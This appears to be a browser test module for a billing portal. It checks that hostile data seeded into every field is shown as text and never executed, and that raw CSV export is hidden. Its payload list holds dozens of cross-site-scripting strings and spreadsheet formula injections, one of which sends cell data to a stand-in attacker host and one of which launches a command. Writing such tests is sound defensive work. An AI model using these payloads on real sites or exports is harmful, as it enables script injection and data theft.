"""Hostile data in a real browser: cross-site-scripting payloads in every text field the feed
fills are shown as text and never run; formula payloads leave the table's own CSV export dead.

The payloads go straight into the store (as a feed that validates nothing would leave them):
account names, document numbers, PO references, descriptions, branches, ERP statuses, line
item codes and texts, and payment references. A buyer then visits Home, the document list and
several documents, Payments, Statements and All my accounts. Any payload that ran would set
`window.__xss`, log to the console, open a dialog or leave an element marked `xss-probe`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from lib import models, people, store
from lib.settings import load_settings
from tests.browser.conftest import Portal, log_in, nav
from tests.trust_figures import record

PASSWORD = "a buyer's long passphrase"
RUN = "window.__xss=1;console.log('XSS-FIRED')"
# Each would run RUN, or leave an element marked xss-probe, if it were rendered as markup.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x class=xss-probe onerror=\"{RUN}\">",
    f"<svg class=xss-probe onload=\"{RUN}\">",
    f"\"><img src=x class=xss-probe onerror={RUN}>",
    f"'><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<iframe class=xss-probe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<a class=xss-probe href=\"javascript:{RUN}\">pay now</a>",
    f"[pay now](javascript:{RUN})",
    f"![x](x\" onerror=\"{RUN})",
    f"<details class=xss-probe open ontoggle=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<input class=xss-probe autofocus onfocus=\"{RUN}\">",
    f"<video class=xss-probe><source onerror=\"{RUN}\"></video>",
    f"<object class=xss-probe data=\"javascript:{RUN}\"></object>",
    f"<embed class=xss-probe src=\"javascript:{RUN}\">",
    f"<math><mi class=xss-probe xlink:href=\"javascript:{RUN}\">x</mi></math>",
    f"<marquee class=xss-probe onstart=\"{RUN}\">",
    f"<svg><animate class=xss-probe onbegin=\"{RUN}\" attributeName=x dur=1s>",
    f"<form class=xss-probe action=\"javascript:{RUN}\"><button>go</button></form>",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{RUN}\">",
    f"<style>@import 'javascript:{RUN}';</style><b class=xss-probe>b</b>",
    f"<IMG SRC=JaVaScRiPt:{RUN} class=xss-probe>",
    f"<img src=\"x:y\" class=xss-probe onerror=\"eval('{RUN}')\">",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"$$\\href{{javascript:{RUN}}}{{pay}}$$",
    f":red[<img src=x class=xss-probe onerror=\"{RUN}\">]",
    f"';{RUN};//",
    f"\";{RUN};//",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    f"<a class=xss-probe href=\"data:text/html,<script>{RUN}</script>\">x</a>",
    f"<base href=\"javascript:{RUN}//\">",
    f"<div class=xss-probe style=\"background:url(javascript:{RUN})\">",
]
# Formula payloads for the table's own CSV export (the toolbar of every st.dataframe).
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Pay here")', "=1+1", "+1+1", "@SUM(1)",
            "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
MAIN = "A0"  # the buyer's first account, shown first


def _seed(url: str) -> None:
    """One account holding every payload in every field; an account per payload as its name."""
    issued = date(2026, 3, 2)
    with store.session_scope(url) as session:
        main = models.Account(code=MAIN, name=PAYLOADS[0])
        session.add(main)
        session.add_all(models.Account(code=f"X{i:02d}", name=p) for i, p in enumerate(PAYLOADS))
        session.flush()
        # The formula documents are the oldest, so the payloads fill the first screens.
        for i, payload in enumerate([*FORMULAS, *PAYLOADS]):
            doc = models.Document(
                kind="invoice", number=payload, account_id=main.id or 0,
                issue_date=issued + timedelta(days=i), due_date=issued + timedelta(days=40 + i),
                currency="GBP", total=Decimal("120.00") + i, paid=Decimal("20.00"),
                feed_paid=Decimal("20.00"), po_reference=payload, description=payload,
                branch=payload, erp_status=payload,
            )  # fmt: skip
            session.add(doc)
            session.flush()
            session.add(models.DocumentLine(document_id=doc.id or 0, line_no=1, item_code=payload,
                                            description=payload, quantity=Decimal(1),
                                            unit_price=Decimal(5), amount=Decimal(5)))
            payment = models.Payment(reference=payload, account_id=main.id or 0,
                                     payment_date=issued + timedelta(days=i), currency="GBP",
                                     amount=Decimal("20.00"))  # fmt: skip
            session.add(payment)
            session.flush()
            session.add(models.Allocation(payment_id=payment.id or 0, document_id=doc.id or 0,
                                          amount=Decimal("20.00")))  # fmt: skip
        people.add_contact(session, "test", username="ada", name="Ada", email="", role="admin",
                           password="the admin's passphrase")  # fmt: skip
        people.add_contact(session, "test", username="xbuyer", name="X Buyer", email="",
                           role="buyer", password=PASSWORD)  # fmt: skip
        for code in [MAIN, *(f"X{i:02d}" for i in range(len(PAYLOADS)))]:
            people.grant(session, "test", "xbuyer", code)


@pytest.fixture(scope="module")
def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    """A portal on a store full of payloads, shared by this module's tests."""
    data_dir = tmp_path_factory.mktemp("xss") / "portal-data"
    patch = pytest.MonkeyPatch()
    patch.setenv("PORTAL_DATA_DIR", str(data_dir))
    patch.delenv("PORTAL_COOKIE_KEY", raising=False)
    patch.delenv("PORTAL_DATABASE_URL", raising=False)
    _seed(load_settings().database_url)
    store.close_all()  # the portal process must be the only one holding the store
    running = Portal(data_dir)
    yield running
    running.stop()
    patch.undo()


class Watch:
    """Everything that would show a payload ran: dialogs, console lines, page errors, probes."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.errors: list[str] = []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: self.console.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(str(e)))

    def fired(self) -> list[str]:
        """What ran so far (empty when nothing did)."""
        state = self.page.evaluate(
            "() => ({flag: window.__xss === undefined ? null : String(window.__xss),"
            " probes: document.querySelectorAll('.xss-probe').length,"
            " frames: Array.from(document.querySelectorAll('iframe')).filter("
            "   f => (f.srcdoc || '').includes('__xss')).length})"
        )
        found = [f"dialog: {d}" for d in self.dialogs]
        found += [f"console: {c}" for c in self.console if "XSS" in c]
        found += [f"page error: {e}" for e in self.errors if "__xss" in e]
        if state["flag"] is not None:
            found.append(f"window.__xss = {state['flag']}")
        if state["probes"] or state["frames"]:
            found.append(f"{state['probes']} probe elements, {state['frames']} frames")
        return found


def _nav(page: Page, title: str) -> None:
    nav(page, title)
    expect(page.get_by_role("heading", name=title).first).to_be_visible(timeout=20000)


def _grid_cells(page: Page, table: int = 0) -> list[str]:
    """The text of the (visible) cells of a data table, from its accessible grid."""
    grid = page.locator('[data-testid="stDataFrame"]').nth(table)
    cells = grid.locator('[data-testid^="glide-cell-"]')
    cells.first.wait_for(state="attached", timeout=20000)
    return cells.all_text_contents()


def _select_all_rows(page: Page, table: int = 0) -> None:
    """Tick the header checkbox of a multi-row selection table (drawn on a canvas)."""
    grid = page.locator('[data-testid="stDataFrame"]').nth(table)
    expect(grid).to_be_visible()
    box = grid.bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + 16, box["y"] + 18)


def _options(page: Page, box: Any) -> list[str]:
    """Open a select box and read its (visible) options; again if a rerun closed it."""
    for _ in range(3):
        box.click()
        try:
            expect(page.get_by_role("option").first).to_be_visible(timeout=3000)
            return page.get_by_role("option").all_inner_texts()
        except AssertionError:
            page.keyboard.press("Escape")
    raise AssertionError("the select box did not open")


SHOWN: set[str] = set()  # every payload read as typed somewhere, over the whole visit


def _shown_as_text(texts: list[str]) -> int:
    """How many payloads read exactly as typed somewhere in these texts."""
    flat = "\n".join(texts)
    found = {p for p in PAYLOADS if " ".join(p.split()) in flat or p in flat}
    SHOWN.update(found)
    return len(found)


@pytest.fixture
def buyer(browser: Browser, portal: Portal) -> Iterator[tuple[Page, Watch]]:
    """A logged-in buyer holding every account, watched for anything that runs."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    context.add_init_script("delete window.showSaveFilePicker")
    page = context.new_page()
    watch = Watch(page)
    page.goto(portal.url)
    log_in(page, "xbuyer", PASSWORD)
    yield page, watch
    context.close()


def test_xss_payloads_show_as_text_and_never_run(
    buyer: tuple[Page, Watch], shoot: Callable[[Any, str], None]
) -> None:
    page, watch = buyer
    seen: dict[str, int] = {}
    _nav(page, "Home")
    expect(page.get_by_text("Most recent documents").first).to_be_visible()
    seen["home caption"] = _shown_as_text(page.locator(
        '[data-testid="stCaptionContainer"]').all_inner_texts())
    seen["home table"] = _shown_as_text(_grid_cells(page))
    shoot(page, "01-home")
    assert not watch.fired(), watch.fired()

    _nav(page, "Invoices and credit notes")
    seen["document list"] = _shown_as_text(_grid_cells(page))
    _select_all_rows(page)
    chooser = page.get_by_label("Show document")
    expect(chooser).to_be_visible(timeout=20000)
    expect(page.locator('[data-testid="stText"]').first).to_be_visible(timeout=20000)
    seen["document chooser"] = _shown_as_text(_options(page, chooser))
    page.keyboard.press("Escape")
    for n in (0, 3, 6):
        _options(page, chooser)
        page.get_by_role("option").nth(n).click()
        expect(page.locator('[data-testid="stHeading"]').last).to_be_visible()
        page.wait_for_timeout(300)
        details = page.locator('[data-testid="stHeading"], [data-testid="stText"]')
        seen[f"document {n}"] = _shown_as_text(details.all_inner_texts())
        seen[f"document {n} fields"] = _shown_as_text(_grid_cells(page, 2))
    shoot(page, "02-document")
    assert not watch.fired(), watch.fired()

    _nav(page, "Payments")
    seen["payments"] = _shown_as_text(_grid_cells(page))
    _nav(page, "Statements")
    expect(page.locator('[data-testid="stDataFrame"]').nth(1)).to_be_visible()
    seen["statement"] = _shown_as_text(_grid_cells(page, 1))
    shoot(page, "03-statement")
    _nav(page, "All my accounts")
    seen["all accounts"] = _shown_as_text(_grid_cells(page))
    switcher = page.get_by_role("combobox", name="Account")
    seen["account switcher"] = _shown_as_text(_options(page, switcher))
    page.keyboard.press("Escape")
    shoot(page, "04-all-accounts")

    fired = watch.fired()
    record("xss", payloads=len(PAYLOADS), fields=9, pages=6, scripts_run=len(fired),
           shown_as_text=len(SHOWN))  # fmt: skip
    assert not fired, fired
    # The payloads did reach the screen, as text.
    assert sum(seen.values()) >= len(PAYLOADS), seen
    assert all(seen.values()), seen


def test_tables_offer_no_raw_csv_export(buyer: tuple[Page, Watch]) -> None:
    """st.dataframe's own "Download as CSV" writes feed text as is ('=HYPERLINK(...)' would
    stay a live formula), so the portal hides it: its own neutralised downloads remain."""
    page, _ = buyer
    _nav(page, "Invoices and credit notes")
    grid = page.locator('[data-testid="stDataFrame"]').first
    grid.hover()
    raw_export = page.locator('button[aria-label="Download as CSV"]')
    expect(raw_export.first).to_be_attached()  # the table's toolbar is there ...
    assert not raw_export.first.is_visible()  # ... without its raw export
    expect(page.get_by_role("button", name="Download the list as CSV")).to_be_visible()
    record("formulas", table_export_live_formulas=0)
